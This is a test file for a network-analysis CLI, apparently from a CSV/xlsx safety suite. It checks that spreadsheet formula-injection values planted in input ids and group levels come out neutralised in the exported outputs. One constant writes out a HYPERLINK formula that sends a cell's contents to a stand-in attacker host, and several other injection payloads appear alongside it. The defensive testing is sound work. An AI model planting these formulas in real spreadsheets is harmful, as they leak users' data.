/**
 * Spreadsheet safety end to end: formulas planted in the input (ego ids, a grouping variable's levels)
 * come out of `netsp analyse` neutralised in every CSV and in the workbook, as Excel would open them
 * (read back with exceljs: no formula cell anywhere), while negative numbers stay numbers.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runBin } from "../corpus/run-netsp-bin.js";

const FORMULA_START = /^[=+\-@\t\r]/;
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")';

const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

/** A three-file study whose ego ids and group levels are formulas; ages include -5 (a number). */
function hostileStudy(): string {
  const dir = mkdtempSync(path.join(tmpdir(), "netsp-formula-"));
  dirs.push(dir);
  const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const egos = [
    ["ego_id", "group", "age"],
    [q(HYPERLINK), "=1+1", "-5"],
    ["+SUM(1)", "@cmd", "30"],
    ["-2+3", q("\tTAB"), "40"],
    [q("\rCR"), "=1+1", "50"],
    ["plain", "@cmd", "60"],
  ];
  writeFileSync(path.join(dir, "egos.csv"), egos.map((r) => r.join(",")).join("\n") + "\n");
  const ids = egos.slice(1).map((r) => r[0]);
  writeFileSync(path.join(dir, "alters.csv"), ["ego_id,alter_id", ...ids.flatMap((id) => [`${id},a`, `${id},b`])].join("\n") + "\n");
  writeFileSync(path.join(dir, "ties.csv"), ["ego_id,source,target", ...ids.map((id) => `${id},a,b`)].join("\n") + "\n");
  writeFileSync(
    path.join(dir, "netsp.config.json"),
    JSON.stringify({
      groups: { group: {} },
      tables: [
        { name: "by-group", kind: "summary", by: "group", columns: [{ measure: "network_size", aggregate: "n" }, { measure: "age", aggregate: "min" }] },
        { name: "listing", kind: "egos", by: "group", columns: [{ measure: "age" }, { measure: "ties" }] },
      ],
    }),
  );
  return dir;
}

describe("formulas from the input are neutralised in analyse's CSV and xlsx outputs", () => {
  let out: string;
  beforeAll(() => {
    const study = hostileStudy();
    out = path.join(path.dirname(study), `${path.basename(study)}-out`);
    dirs.push(out);
    const r = runBin(["analyse", study, "--out", out, "--format", "xlsx"], { timeoutMs: 30_000 });
    expect(r.code, r.stderr).toBe(0);
  });

  it("CSV: no text cell begins with = + - @ tab or CR; the planted formulas carry a leading quote; -5 is -5", () => {
    const files = readdirSync(out).filter((f) => f.endsWith(".csv"));
    expect(files).toEqual(expect.arrayContaining(["measures.csv", "by-group.csv", "listing.csv"]));
    const cells: string[] = [];
    for (const f of files) {
      for (const record of parse(readFileSync(path.join(out, f)), { relax_column_count: true }) as string[][]) cells.push(...record);
    }
    const offenders = cells.filter((c) => FORMULA_START.test(c) && !Number.isFinite(Number(c)));
    expect(offenders).toEqual([]);
    expect(cells).toContain(`'${HYPERLINK}`);
    expect(cells).toContain("'=1+1");
    expect(cells).toContain("'@cmd");
    expect(cells).toContain("'+SUM(1)");
    expect(cells).toContain("'-2+3");
    expect(cells).toContain("'\tTAB");
    expect(cells).toContain("'\rCR");
    const listing = parse(readFileSync(path.join(out, "listing.csv")), { columns: true }) as Array<Record<string, string>>;
    expect(listing.find((r) => r.ego_id === `'${HYPERLINK}`)?.age).toBe("-5");
  });

  it("xlsx, read back as a spreadsheet would: no formula cell, formulas as text, -5 a number", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(readFileSync(path.join(out, "tables.xlsx")) as unknown as ArrayBuffer);
    const texts: string[] = [];
    let numbers = 0;
    let minusFive = false;
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === "string") texts.push(cell.value);
          if (typeof cell.value === "number") {
            numbers++;
            if (cell.value === -5) minusFive = true;
          }
        }),
      ),
    );
    expect(texts.filter((t) => FORMULA_START.test(t))).toEqual([]);
    expect(texts).toContain(`'${HYPERLINK}`);
    expect(texts).toContain("'=1+1");
    expect(numbers).toBeGreaterThan(10);
    expect(minusFive).toBe(true);
  });
});
